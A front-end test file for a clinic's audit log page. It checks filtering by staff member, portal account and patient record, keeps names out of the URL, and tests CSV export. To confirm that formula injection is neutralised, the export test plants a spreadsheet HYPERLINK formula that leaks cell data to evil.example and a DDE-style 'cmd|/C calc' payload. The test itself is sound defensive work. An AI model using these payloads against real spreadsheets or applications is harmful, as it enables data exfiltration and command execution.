import { screen, within } from '@testing-library/react';
import Papa from 'papaparse';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { db } from '../../../../mocks/db';
import { captureDownloads, readText } from '../../../../tests/downloads';
import { patientIdOf, renderRoute } from '../../../../tests/render';

const HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")';

afterEach(() => vi.restoreAllMocks());

describe('Audit log (clinic managers)', { timeout: 40_000 }, () => {
  it('filters by who, and keeps the filter and the page in the address as ids', async () => {
    const { user, history } = renderRoute('/audit', { as: 'clinic_manager' });
    await screen.findByRole('heading', { name: 'Audit log' }, { timeout: 10_000 });
    await user.click(await screen.findByLabelText('Who', { selector: 'input' }));
    await user.click(
      await screen.findByRole('option', { name: 'Priya Shah (Patient experience)' }),
    );

    await vi.waitFor(() => expect(history.location.search).toBe('?actorId=staff_h3v8n2c6jt5d'));
    const rows = within(await screen.findByRole('table'))
      .getAllByRole('row')
      .slice(1);
    expect(rows.length).toBeGreaterThan(0);
    for (const row of rows) expect(row).toHaveTextContent('Priya Shah');
  });

  it('filters by a patient’s portal account, picked under Patient portal', async () => {
    const account = db.accounts.find((a) => a.email === 'olivia.martin@example.org')!;
    const { user, history } = renderRoute('/audit', { as: 'clinic_manager' });
    await screen.findByRole('heading', { name: 'Audit log' }, { timeout: 10_000 });
    expect(screen.getByRole('button', { name: 'Dates' })).toBeInTheDocument();
    await user.click(await screen.findByLabelText('Who', { selector: 'input' }));
    const portal = await screen.findByRole('group', { name: 'Patient portal' });
    await user.click(
      within(portal).getByRole('option', { name: 'olivia.martin@example.org (patient)' }),
    );

    await vi.waitFor(() => expect(history.location.search).toBe(`?actorId=${account.id}`));
    expect(history.location.href).not.toMatch(/olivia|martin/i);
    expect(await screen.findByText('1 event')).toBeInTheDocument();
    const [row] = within(screen.getByRole('table')).getAllByRole('row').slice(1);
    expect(row).toHaveTextContent('Portal account registered');
  });

  it('filters by a record picked by searching, with no name in the address', async () => {
    const id = patientIdOf('Olivia Martin');
    const { user, history } = renderRoute('/audit', { as: 'clinic_manager' });
    await user.type(
      await screen.findByLabelText('Record', { selector: 'input' }, { timeout: 10_000 }),
      'Olivia Mar',
    );
    await user.click(await screen.findByRole('option', { name: /^Olivia Martin · born/ }));

    await vi.waitFor(() => expect(history.location.search).toBe(`?patientId=${id}`));
    expect(history.location.href).not.toMatch(/olivia|martin/i);
    const rows = within(await screen.findByRole('table'))
      .getAllByRole('row')
      .slice(1);
    for (const row of rows) expect(row).toHaveTextContent('Olivia Martin');
  });

  it('reads action, dates and page from the address and asks the server for that page', async () => {
    renderRoute('/audit?action=access-link-sent&from=2020-01-01&to=2030-12-31&page=1', {
      as: 'clinic_manager',
    });
    const total = db.audit.filter((e) => e.action === 'Access link sent').length;
    expect(await screen.findByText(`${total} events`)).toBeInTheDocument();
    const rows = within(screen.getByRole('table')).getAllByRole('row').slice(1);
    expect(rows).toHaveLength(total);
    for (const row of rows) expect(row).toHaveTextContent('Access link sent');
  });

  it('exports the filtered events as CSV, with a formula in a name neutralised', async () => {
    const olivia = db.patients.find((p) => p.id === patientIdOf('Olivia Martin'))!;
    olivia.firstName = HOSTILE;
    // A stored event whose actor name is hostile (a portal user's typed name, say).
    db.audit.find((e) => e.patientId === olivia.id)!.actorName = '@SUM(1+1)*cmd|"/C calc"!A0';
    const files = captureDownloads();
    const { user } = renderRoute(`/audit?patientId=${olivia.id}`, { as: 'clinic_manager' });
    await user.click(await screen.findByRole('button', { name: 'Export CSV' }));
    expect(await screen.findByText(/^Exported \d+ events\.$/)).toBeInTheDocument();

    expect(files).toHaveLength(1);
    const text = (await readText(files[0]!)).replace(/^\ufeff/, '');
    const { data, errors } = Papa.parse<string[]>(text, { skipEmptyLines: true });
    expect(errors).toEqual([]);
    const [header, ...rows] = data;
    expect(header).toEqual([
      'When (America/Los_Angeles)',
      'Who',
      'Role',
      'Record',
      'MRN',
      'Record id',
      'Action',
      'Details',
    ]);
    expect(rows).toHaveLength(db.audit.filter((e) => e.patientId === olivia.id).length);
    // The clinic's time with its offset, and the MRN beside the opaque id.
    for (const row of rows)
      expect(row[0]).toMatch(/^\d{4}-\d{2}-\d{2} \d{2}:\d{2} [+-]\d{2}:\d{2}$/);
    const registered = rows.find((r) => r[6] === 'Portal account registered')!;
    expect(registered[0]).toBe('2026-11-22 01:00 -08:00');
    for (const row of rows) expect(row.slice(4, 6)).toEqual([olivia.mrn, olivia.id]);
    // The names are there in full, as text a spreadsheet will not run: a leading apostrophe.
    for (const row of rows) expect(row[3]).toBe(`'${HOSTILE} Martin`);
    expect(rows.map((r) => r[1])).toContain(`'@SUM(1+1)*cmd|"/C calc"!A0`);
    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });
});
